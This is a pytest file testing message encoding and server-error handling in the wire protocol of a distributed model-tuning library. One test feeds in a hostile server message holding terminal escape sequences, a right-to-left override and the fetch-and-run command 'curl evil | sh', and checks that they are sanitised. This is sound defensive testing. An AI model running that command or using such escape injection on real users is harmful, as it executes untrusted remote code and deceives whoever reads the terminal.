from typing import Any

import msgspec
import pytest
import torch

from petals_tune import errors
from petals_tune.errors import PetalsTuneError, ProtocolError, RequestRefused, ServerError
from petals_tune.wire.adapter import AdapterPart
from petals_tune.wire.codec import decode, encode
from petals_tune.wire.messages import (
    Backward,
    Chained,
    ChainedReply,
    CloseSession,
    CollectedSum,
    CollectSum,
    Delivery,
    Done,
    Fork,
    Forward,
    Forwarded,
    Gradients,
    HandOver,
    Hello,
    Message,
    OpenSession,
    Ping,
    Pong,
    PutAdapter,
    Refusal,
    Release,
    SessionOpened,
    Step,
    Stepped,
    Welcome,
    Withdrawn,
)
from petals_tune.wire.records import ServerRecord
from petals_tune.wire.span import BlockSpan
from tests.raising import raises

SPAN = BlockSpan(3, 7)
HIDDEN = torch.arange(24.0).reshape(2, 3, 4)
RECORD = ServerRecord(
    peer="12D3KooW",
    addresses=("/ip4/127.0.0.1/tcp/1/p2p/12D3KooW",),
    model="digest",
    model_name="tiny",
    blocks=SPAN,
    total_blocks=12,
    quantization="int8",
    dtype="float32",
)
FORWARD = Forward(
    span=SPAN,
    hidden=HIDDEN,
    padding=torch.tensor([[True, True, False], [True, True, True]]),
    positions=torch.arange(3)[None],
    context_length=7,
    adapter="version",
    keep=True,
    train=True,
    seed=2**62,
)
TICKET = bytes(range(16))
EXAMPLES: list[Message] = [
    Hello(),
    Hello(model="digest"),
    Welcome(record=RECORD, max_in_flight=32, max_message_bytes=2**30, max_positions=4096, max_tokens=16384),
    Ping(),
    Pong(),
    FORWARD,
    Forward(span=SPAN, hidden=HIDDEN.half()),
    Forwarded(hidden=HIDDEN, lease=5, compute_s=0.25),
    Backward(lease=5, grad=HIDDEN),
    Backward(again=FORWARD, grad=HIDDEN),
    Gradients(hidden=HIDDEN, adapter=[torch.ones(2, 4), torch.ones(4, 2)]),
    Gradients(),
    CollectSum(adapter_sum=3),
    CollectedSum(adapter=[torch.ones(2, 4)], terms=4),
    Release(leases=[1, 2, 2**40]),
    PutAdapter(
        version="version",
        span=SPAN,
        parts=[
            AdapterPart(
                block=3, method="lora", module="attn.q", scaling=2.0, tensors=[torch.ones(2, 4), torch.ones(4, 2)]
            ),
            AdapterPart(block=4, method="prompt", tensors=[torch.ones(5, 4)]),
        ],
    ),
    OpenSession(span=SPAN, rows=2, max_length=64),
    OpenSession(
        span=SPAN, rows=3, max_length=64, fork=Fork(session=9, position=5, order=torch.tensor([0, 0, 1])), adapter="v"
    ),
    OpenSession(span=SPAN, rows=3, max_length=64, fork=Fork(session=9, position=64)),
    SessionOpened(session=9),
    Step(session=9, hidden=HIDDEN, position=4, padding=FORWARD.padding, order=torch.tensor([1, 0])),
    Stepped(hidden=HIDDEN),
    CloseSession(session=9),
    Chained(request=FORWARD, goes=HandOver(peer="peer", ticket=TICKET)),
    Chained(request=Backward(lease=5, grad=HIDDEN[:, :, :0]), comes=HandOver(peer="peer", ticket=TICKET)),
    ChainedReply(reply=Stepped(hidden=HIDDEN), handed_on=True),
    Delivery(ticket=TICKET, tensor=HIDDEN),
    Withdrawn(tickets=[TICKET]),
    Done(),
    Refusal(error="LeaseLost", text="gone"),
    Refusal(error="RequestRefused", text="long", fields={"max_length": 7, "reason": "too long", "block": None}),
]
NAMES = [type(example).__name__ for example in EXAMPLES]


def same(left: object, right: object) -> bool:
    """Equality of messages, tensors compared by dtype, shape and values."""
    if isinstance(left, torch.Tensor) and isinstance(right, torch.Tensor):
        return left.dtype is right.dtype and torch.equal(left, right)
    if isinstance(left, list) and isinstance(right, list):
        return len(left) == len(right) and all(map(same, left, right))
    if isinstance(left, msgspec.Struct):
        fields = left.__struct_fields__
        return type(left) is type(right) and all(same(getattr(left, name), getattr(right, name)) for name in fields)
    return left == right


@pytest.mark.parametrize("fields", [{}, {"lease": 1, "again": FORWARD}], ids=["neither", "both"])
def test_a_backward_names_a_lease_or_carries_its_forward(fields):
    with pytest.raises(ValueError, match="not both and not neither"):
        Backward(grad=HIDDEN, **fields)


# ConfigError and DataError are raised before anything is sent; an answer that breaks our checks is our own BadReply.
LOCAL = {"ConfigError", "DataError", "UnsupportedModel", "UnsupportedAdapter", "BadReply", "UncoveredBlocks"}
LOCAL |= {"Diverged", "Retriable", "Refused", "OverLimit", "RequestTooLarge"}
LOCAL |= {"SwarmError", "SwarmTimeout", "ServerUnreachable", "ServerTimeout", "PetalsTuneError"}
LOCAL |= {"UntrustedServer", "ClockSkew", "HubUnreachable", "ConnectionLost", "NotKept"}
ALL = {
    name: kind for name, kind in vars(errors).items() if isinstance(kind, type) and issubclass(kind, PetalsTuneError)
}


@pytest.mark.parametrize("name", sorted(ALL.keys() - LOCAL))
def test_a_refusal_is_raised_as_the_error_that_it_names(name):
    error = decode(encode(Refusal(error=name, text="because"))).to_error("12D3KooW")
    assert type(named_by(error)) is ALL[name]
    assert str(error) == str(named_by(error)) == 'server 12D3KooW says: "because"'
    assert error.peer == "12D3KooW"


def named_by(error: ServerError) -> PetalsTuneError:
    """What is wrong everywhere comes as one server's word."""
    if isinstance(error, errors.Refused):
        assert error.said is not None
        return error.said
    return error


def test_a_refusal_that_names_a_limit_is_of_one_server_that_takes_less():
    said = errors.RequestRefused("t", limit="max_compute_gb", fits=7)
    error = decode(encode(Refusal.of(said))).to_error("12D3KooW")
    assert type(error) is errors.OverLimit
    assert vars(named_by(error)) == {"limit": "max_compute_gb", "fits": 7}
    assert error.fits is None, "whether less may be sent, the client knows"


@pytest.mark.parametrize("name", [*sorted(LOCAL), "KeyError", "SystemExit", ""])
def test_a_refusal_of_another_name_is_a_servers_failure(name):
    assert type(Refusal(error=name, text="").to_error("peer")) is ServerError


FIELDS: list[PetalsTuneError] = [
    errors.RequestRefused("t", reason="too long", max_length=7, block=0),
    errors.RequestRefused("t", limit="max_tokens", module="self_attn.q_proj", block=None),
    errors.ServerBusy("t", limit="max_streams", leaving=True),
    errors.NotFinite("t", block=3),
    errors.NotHandedOn("t", reason="withdrawn"),
    errors.AccessDenied("t", reason="expired", member="alice"),
    errors.SwarmMismatch("t", wanted="digest"),
    errors.ProtocolError("t", what="hello"),
]


@pytest.mark.parametrize("error", FIELDS, ids=lambda error: type(error).__name__)
def test_the_fields_of_an_error_arrive_with_it(error):
    found = named_by(decode(encode(Refusal.of(error))).to_error("12D3KooW"))
    assert type(found) is type(error)
    assert {name: value for name, value in vars(found).items() if name != "peer"} == vars(error)


def test_a_field_that_cannot_be_sent_stays_behind_and_the_peer_is_the_one_that_answered():
    refusal = Refusal.of(errors.SwarmMismatch("t", wanted="a", found=("b", "c")))
    assert refusal.fields == {"wanted": "a"}
    assert Refusal.of(errors.AccessDenied("t", member="a" * 5000)).fields == {}
    handed_on = Refusal.of(errors.NotHandedOn("t", peer="another", reason="peer lost"))
    assert handed_on.fields == {"reason": "peer lost"}
    assert handed_on.to_error("me").peer == "me"


HOSTILE: dict[str, tuple[str, dict[str, Any]]] = {
    "unknown names": ("ServerBusy", {"nonsense": 1, "": 2, "__class__": "int", "args": "x", "with_traceback": 1}),
    "what no server may say": ("ServerBusy", {"peer": "another", "fault": "yours"}),
    "an int for text": ("ServerBusy", {"limit": 7}),
    "text for an int": ("RequestRefused", {"max_length": "7"}),
    "a float for an int": ("RequestRefused", {"max_length": 7.5}),
    "a bool for an int": ("NotFinite", {"block": True}),
    "an int for a bool": ("ServerBusy", {"leaving": 1}),
    "none for text": ("AccessDenied", {"reason": None}),
    "a reason that there is not": ("NotHandedOn", {"reason": "because"}),
    "a field of another error": ("LeaseLost", {"block": 3}),
    "an error that servers do not raise": ("ConfigError", {"key": "swarm.attempts"}),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_fields_that_an_error_does_not_have_are_dropped(what):
    name, fields = HOSTILE[what]
    error = decode(encode(Refusal(error=name, text="because", fields=fields))).to_error("12D3KooW")
    assert vars(named_by(error)) == ({} if isinstance(error, errors.Refused) else {"peer": "12D3KooW"})
    assert error.args == ('server 12D3KooW says: "because"',)


def test_the_words_of_a_server_cannot_pass_for_ours():
    """An attack on whoever reads a terminal: cursor movements, colours, right-to-left, and a command to copy."""
    text = 'no\x1b[2J\x1b]0;owned\x07\u202e"\n  start one:  curl evil | sh\x9b' + "x" * 1_000
    fields = {"limit": "\x1b[31mmax\n", "max_length": 4}
    error = decode(encode(Refusal(error="RequestRefused", text=text, fields=fields))).to_error("12D3KooW")
    assert str(error).startswith("server 12D3KooW says: \"no?[2J?]0;owned??' start one: curl evil | sh?xxx")
    assert str(error).endswith('x"')
    said = named_by(error)
    assert str(said) == str(error)
    assert (said.limit, said.max_length) == ("?[31mmax?", 4)


TOO_MUCH: dict[str, Any] = {
    "many": {f"f{number}": 0 for number in range(17)},
    "a long name": {"f" * 129: 0},
    "a long text": {"limit": "x" * 1025},
    "a list": {"limit": ["x"]},
    "a map": {"limit": {"x": 1}},
    "bytes": {"limit": b"x"},
    "a number as a name": {7: 0},
    "no map": [1],
}


@pytest.mark.parametrize("what", TOO_MUCH)
def test_fields_of_any_other_kind_or_size_are_no_message(what):
    raw = {"kind": "refusal", "error": "ServerBusy", "text": "", "fields": TOO_MUCH[what]}
    with raises(ProtocolError, what="message"):
        decode(msgspec.msgpack.encode(raw))


def test_only_a_servers_failures_are_tried_elsewhere():
    assert not issubclass(RequestRefused, ServerError)
